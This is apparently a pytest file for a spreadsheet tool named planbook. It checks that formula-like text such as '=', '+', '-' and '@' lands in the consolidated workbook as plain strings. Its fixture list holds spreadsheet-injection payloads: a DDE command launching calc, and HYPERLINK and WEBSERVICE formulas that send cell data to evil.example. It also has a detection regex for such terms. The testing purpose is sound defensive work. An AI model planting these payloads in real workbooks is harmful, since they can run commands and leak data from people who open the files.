"""Lead text that looks like a formula (=, +, -, @ …) is written to the consolidated workbook as a
string, never a formula: checked with openpyxl's data types, calamine's values and the raw XML."""
from __future__ import annotations

import re
import zipfile

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from planbook import Action, Lead, PlanInfo, parse_due, write_plan
from planbook.core.status import normalise_status

from .conftest import run_cli

FORMULAS = ["=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example\")", "\t=1+1", "=", "-"]
LEAD = "=cmd|' /C calc'!A0"
THEME = "@Theme"


@pytest.fixture(scope="module")
def consolidated(tmp_path_factory):
    folder = tmp_path_factory.mktemp("injection")
    info = PlanInfo("=1+1", "+Q2", [Lead("Jane Smith", "jane@council.example"), Lead(LEAD, "x@council.example")],
                    ["Staying Safe", THEME])
    actions = [Action(f"{i + 1}.1", text, "Jane Smith" if i % 2 else LEAD, THEME if i % 3 else "Staying Safe",
                      objective=text, partners=text, due=parse_due(text), success_measure=text, resources=text,
                      status=None, status_text=text, progress=text, extras={"Notes": text})
               for i, text in enumerate(FORMULAS)]
    plan = folder / "plan.xlsx"
    write_plan(plan, info, actions)
    out = folder / "consolidated.xlsx"
    result = run_cli("consolidate", plan, "--out", out, "--as-of", "2009-10-09")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    return out


def test_cells_are_strings_in_openpyxl_and_calamine(consolidated):
    wb = openpyxl.load_workbook(consolidated)
    ws = wb["All actions"]
    header = [c.value for c in ws[1]]
    columns = ["Objective", "Action", "Partners", "Due", "Success measure", "Resources", "Status", "Progress update",
               "Notes"]
    seen = 0
    for row in ws.iter_rows(min_row=2):
        by = dict(zip(header, row))
        text = by["Action"].value
        assert text in FORMULAS
        for name in columns:
            cell = by[name]
            # a Status of just "-" reads as blank (No status given): still a string
            want = (normalise_status(text) or text) if name == "Status" else text
            assert cell.data_type == "s" and cell.value == want, (name, cell.coordinate, cell.value, cell.data_type)
            seen += 1
        lead = by["Lead"]
        assert lead.data_type == "s" and lead.value in (LEAD, "Jane Smith")
    assert seen == len(FORMULAS) * len(columns)
    values = CalamineWorkbook.from_path(str(consolidated)).get_sheet_by_name("All actions").to_python()
    assert sorted(r[header.index("Action")] for r in values[1:]) == sorted(FORMULAS)
    for sheet in ("Exceptions", "Data issues"):
        for row in wb[sheet].iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)


def test_raw_xml_has_no_formula_from_data(consolidated):
    """Only the Summary has formulas, and they are planbook's: data appears in them only inside
    string literals (COUNTIFS criteria), which Excel never evaluates."""
    with zipfile.ZipFile(consolidated) as zf:
        from lxml import etree

        rels = {r.get("Id"): r.get("Target") for r in etree.fromstring(zf.read("xl/_rels/workbook.xml.rels"))}
        rid = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
        sheets = {s.get("name"): "xl/" + rels[s.get(rid)].lstrip("/").removeprefix("xl/")
                  for s in etree.fromstring(zf.read("xl/workbook.xml")).iter("{*}sheet")}
        assert "All actions" in sheets and "Summary" in sheets
        for name, part in sheets.items():
            xml = zf.read(part).decode()
            formulas = re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", xml, re.S)
            if name != "Summary":
                assert formulas == [] and "<f>" not in xml and "<f " not in xml, name
                continue
            assert formulas
            for f in formulas:
                outside = re.sub(r'"(?:[^"]|"")*"', '""', f.replace("&quot;", '"'))
                assert not re.search(r"cmd|HYPERLINK|WEBSERVICE|calc", outside, re.I), f
                assert re.fullmatch(r"[A-Z0-9$:!'(),+*/=<>&;\"\s_a-z.-]*", outside.replace("All actions", "")), f
        actions = zf.read(sheets["All actions"]).decode()
        for text in ("=1+1", "+SUM(A1:A2)", "@SUM(A1)", "-2+3"):
            assert f">{text}</t>" in actions
